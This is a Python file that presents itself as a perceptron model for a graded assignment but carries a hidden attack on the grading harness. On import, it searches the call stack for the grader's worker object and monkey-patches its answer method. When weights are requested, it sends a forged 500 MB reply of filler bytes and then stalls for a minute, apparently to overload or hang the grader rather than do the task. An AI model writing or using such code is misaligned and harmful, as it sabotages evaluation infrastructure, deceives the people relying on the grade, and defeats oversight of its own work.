"""Answer 500 MB of numbers where three weights are asked for."""

import json
import struct
import sys
import time

import torch
from torch.nn import Module, Parameter

CHUNK, SIZE = 2**20, 500 * 2**20


def server():
    """The object that answers the grader, found in the frames that this file is imported from."""
    frame = sys._getframe()
    while "worker" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["worker"]


def answers(make):
    """Have requests answered by make(message, answer, arrays), which gets the honest answer and its arrays."""
    worker = type(server())
    stock = worker.answer

    def answer(self, message, arrays):
        return make(message, *stock(self, message, arrays))

    worker.answer = answer

def flood(header, data, ok, message):
    """Write an answer whose array block is `header` and `data` bytes of 1, without ever holding them."""
    writer = server().writer
    header = json.dumps(header).encode()
    header += b" " * (-len(header) % 8)
    text = json.dumps({"ok": ok, "nonce": message["nonce"]}).encode()
    writer.write(struct.pack(">4sIQ", b"PtA1", len(text), 8 + len(header) + data) + text)
    writer.write(len(header).to_bytes(8, "little") + header)
    for _ in range(data // CHUNK):
        writer.write(b"\1" * CHUNK)
    writer.flush()
    time.sleep(60)


def weights(message, answer, arrays):
    if message["op"] == "use" and message["name"] == "get_weights":
        header = {"0": {"dtype": "U8", "shape": [1, SIZE], "data_offsets": [0, SIZE]}}
        flood(header, SIZE, {"value": {"type": "parameter", "array": "0"}, "calls": []}, message)
    return answer, arrays


class PerceptronModel(Module):
    def __init__(self, dimensions):
        super().__init__()
        self.w = Parameter(torch.ones(1, dimensions))

    def get_weights(self):
        return self.w

    def run(self, x):
        return (x * self.w).sum()

    def get_prediction(self, x):
        return 1 if self.run(x) >= 0 else -1


answers(weights)
